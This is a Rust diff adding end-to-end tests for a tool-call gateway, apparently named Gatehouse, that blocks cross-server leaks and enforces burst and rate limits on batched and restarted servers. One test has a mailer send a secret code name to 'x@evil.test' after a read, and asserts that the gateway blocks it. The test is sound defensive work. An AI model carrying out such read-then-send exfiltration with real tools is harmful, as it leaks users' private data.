@@ -110,6 +110,42 @@ impl Wire {
         let v = self.request("tools/call", json!({"name": tool, "arguments": args}));
         v["result"].clone()
     }
+
+    /// Sends `calls` as one JSON-RPC batch; returns each call's result, in
+    /// order, from whatever lines answer them (a batch reply may come in
+    /// parts: Gatehouse's answers and the server's).
+    fn batch(&mut self, calls: &[(&str, Value)]) -> Vec<Value> {
+        let mut ids = Vec::new();
+        let mut items = Vec::new();
+        for (tool, args) in calls {
+            self.next_id += 1;
+            ids.push(self.next_id);
+            items.push(
+                json!({"jsonrpc": "2.0", "id": self.next_id, "method": "tools/call",
+                              "params": {"name": tool, "arguments": args}}),
+            );
+        }
+        writeln!(self.input, "{}", Value::Array(items)).expect("write to wrap");
+        self.input.flush().expect("flush");
+        let mut results: BTreeMap<u64, Value> = BTreeMap::new();
+        while results.len() < ids.len() {
+            let line = self
+                .lines
+                .recv_timeout(STEP_TIMEOUT)
+                .unwrap_or_else(|_| panic!("no answer to the batch within {STEP_TIMEOUT:?}"));
+            let v: Value = serde_json::from_str(&line).expect("wrap prints JSON");
+            let answers = match v {
+                Value::Array(answers) => answers,
+                single => vec![single],
+            };
+            for a in answers {
+                if let Some(id) = a["id"].as_u64().filter(|id| ids.contains(id)) {
+                    results.insert(id, a["result"].clone());
+                }
+            }
+        }
+        ids.iter().map(|id| results[id].clone()).collect()
+    }
 }
 
 fn blocked_by(result: &Value) -> Option<String> {
@@ -254,6 +290,21 @@ impl Ide {
         );
     }
 
+    /// Closes the client side of a wrap (it exits) and waits until it left
+    /// the session.
+    fn close(&mut self, id: &str, sb: &Sandbox) {
+        self.wires.remove(id);
+        let server_id = id.split('#').next().unwrap_or(id);
+        let deadline = std::time::Instant::now() + STEP_TIMEOUT;
+        while members_of(sb, server_id) != "0" {
+            assert!(
+                std::time::Instant::now() < deadline,
+                "the wrap of {id} did not leave its session"
+            );
+            std::thread::sleep(std::time::Duration::from_millis(20));
+        }
+    }
+
     /// Starts a wrap of `later` now.
     fn join(&mut self, id: &str) -> &mut Wire {
         File::create(self.dir.join(format!("{id}.go"))).unwrap();
@@ -378,10 +429,22 @@ fn linked_exfiltration_is_blocked_and_an_unrelated_send_alerts() {
 }
 
 fn call_window_rows(sb: &Sandbox) -> String {
+    sql(sb, "SELECT COUNT(*) FROM call_window")
+}
+
+/// How many wrap processes of `server_id` are members of a session.
+fn members_of(sb: &Sandbox, server_id: &str) -> String {
+    sql(
+        sb,
+        &format!("SELECT COUNT(*) FROM session_members WHERE server_id = '{server_id}'"),
+    )
+}
+
+fn sql(sb: &Sandbox, query: &str) -> String {
     let out = Command::new("sqlite3")
         .arg("-readonly")
         .arg(sb.gatehouse_home().join("gatehouse.db"))
-        .arg("SELECT COUNT(*) FROM call_window")
+        .arg(query)
         .output()
         .expect("sqlite3 runs");
     assert!(
@@ -797,4 +860,191 @@ fn concurrent_wraps_of_one_session_allow_exactly_the_limit() {
     if !wrong.is_empty() {
         eprintln!("rounds off by a stalled process (spacing held): {wrong:?}");
     }
+}
+
+/// A JSON-RPC batch goes through the same rules as single calls: a read in
+/// a batch leaves its taint marks, each `tools/call` of a batch is checked
+/// and recorded in order (so a batch cannot carry a burst past the limit),
+/// and the blocked ones are answered in a batch reply while the rest reach
+/// the server.
+#[test]
+fn every_call_of_a_batch_goes_through_the_cross_server_rules() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    std::fs::create_dir_all(sb.gatehouse_home()).unwrap();
+    std::fs::write(
+        sb.gatehouse_home().join("policy.toml"),
+        "[cross_server.burst]\nmax_calls = 4\nwindow_secs = 60\ncooldown_secs = 120\n",
+    )
+    .unwrap();
+    // Both answer batches (the npm memory server does not).
+    let mut ide = ide(
+        &sb,
+        "ide",
+        &[
+            (
+                "notes",
+                peers.py_server("send_server.py", &["read_note"]),
+                &[],
+            ),
+            ("mailer", peers.py_server("send_server.py", &[]), &[]),
+        ],
+    );
+    for id in ["notes", "mailer"] {
+        ide.wire(id).ready();
+    }
+    let read = ide
+        .wire("notes")
+        .batch(&[("read_note", json!({"text": SECRET}))]);
+    assert_eq!(
+        gatehouse_e2e::result_text(&read[0]),
+        SECRET,
+        "the batched read returned the secret"
+    );
+
+    let mailer = ide.wire("mailer");
+    let sent = mailer.batch(&[
+        (
+            "send_message",
+            json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
+        ),
+        (
+            "send_message",
+            json!({"to": "team@corp.test", "body": "standup moved to 10"}),
+        ),
+    ]);
+    let why = blocked_by(&sent[0]).expect("the batched leak of a batched read is blocked");
+    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
+    assert_eq!(
+        gatehouse_e2e::result_text(&sent[1]),
+        "sent",
+        "the other call of the batch reached the server"
+    );
+
+    // One call of the mailer passed so far; the burst allows 4 in the window.
+    let many: Vec<(&str, Value)> = (0..6)
+        .map(|i| {
+            (
+                "send_message",
+                json!({"to": "team@corp.test", "body": format!("note {i}")}),
+            )
+        })
+        .collect();
+    let results = ide.wire("mailer").batch(&many);
+    let outcome: Vec<Option<String>> = results
+        .iter()
+        .map(|r| blocked_by(r).map(|why| why.split(':').next().unwrap_or("").to_string()))
+        .collect();
+    let burst = Some("cross_server.burst".to_string());
+    assert_eq!(
+        outcome,
+        [None, None, None, burst.clone(), burst.clone(), burst],
+        "the calls of a batch count one by one"
+    );
+}
+
+/// A read outlives its server's exit within the window: the sender, alone
+/// in its session once the reader's wrap ended, still judges against it.
+#[test]
+fn a_read_still_counts_after_the_readers_wrap_exits() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    let mut ide = ide_with(
+        &sb,
+        "ide",
+        &[
+            ("memory", memory(&peers), &["MEMORY_FILE_PATH"]),
+            ("mailer", peers.py_server("send_server.py", &[]), &[]),
+            ("mailer#2", peers.py_server("send_server.py", &[]), &[]),
+        ],
+        &["mailer#2"],
+        &[],
+    );
+    for id in ["memory", "mailer"] {
+        ide.wire(id).ready();
+    }
+    seed_and_read(ide.wire("memory"));
+    ide.close("memory", &sb);
+    assert_leak_blocked(
+        ide.wire("mailer"),
+        "alone again, the sender still sees the read of the server that left",
+    );
+    // A sender started after both ended sees it too.
+    ide.close("mailer", &sb);
+    let mailer = ide.join("mailer#2");
+    mailer.ready();
+    assert_leak_blocked(mailer, "a sender started later sees the read");
+}
+
+/// Limits are per (session, server): restarting a server alone in its
+/// session keeps its burst cool-down and its rate-limit bucket, yet the
+/// alone fast path writes nothing per call (its state is written once, when
+/// its wrap exits).
+#[test]
+fn a_restart_keeps_the_servers_cool_down_and_rate_limit() {
+    let peers = Peers::locate();
+    let sb = Sandbox::new();
+    std::fs::create_dir_all(sb.gatehouse_home()).unwrap();
+    std::fs::write(
+        sb.gatehouse_home().join("policy.toml"),
+        "[cross_server.burst]\nmax_calls = 3\nwindow_secs = 60\ncooldown_secs = 120\n\n\
+         [cross_server.rate_limit]\nper_server = { \"slow\" = { calls_per_minute = 2, burst = 1 } }\n",
+    )
+    .unwrap();
+    let busy = || peers.py_server("send_server.py", &["read_note"]);
+    let mut ide = ide_with(
+        &sb,
+        "ide",
+        &[
+            ("busy", busy(), &[]),
+            ("busy#2", busy(), &[]),
+            ("slow", busy(), &[]),
+            ("slow#2", busy(), &[]),
+        ],
+        &["busy#2", "slow", "slow#2"],
+        &[],
+    );
+    let outcome = |w: &mut Wire| {
+        let r = w.call("read_note", json!({"text": "n"}));
+        blocked_by(&r).map(|why| why.split(':').next().unwrap_or("").to_string())
+    };
+    ide.wire("busy").ready();
+    for i in 0..3 {
+        assert_eq!(
+            outcome(ide.wire("busy")),
+            None,
+            "call {i} is within the burst"
+        );
+    }
+    let burst = Some("cross_server.burst".to_string());
+    assert_eq!(outcome(ide.wire("busy")), burst, "the 4th trips the burst");
+    assert_eq!(
+        call_window_rows(&sb),
+        "0",
+        "alone: nothing written per call"
+    );
+    ide.close("busy", &sb);
+    assert_ne!(
+        call_window_rows(&sb),
+        "0",
+        "its calls are written when it exits"
+    );
+    let restarted = ide.join("busy#2");
+    restarted.ready();
+    assert_eq!(
+        outcome(restarted),
+        burst,
+        "still cooling down after the restart"
+    );
+    ide.close("busy#2", &sb);
+
+    let rate = Some("cross_server.rate_limit".to_string());
+    let slow = ide.join("slow");
+    slow.ready();
+    assert_eq!(outcome(slow), None, "the one token");
+    assert_eq!(outcome(slow), rate, "the bucket is empty");
+    ide.close("slow", &sb);
+    let restarted = ide.join("slow#2");
+    restarted.ready();
+    assert_eq!(outcome(restarted), rate, "a restart gets no fresh token");
 }
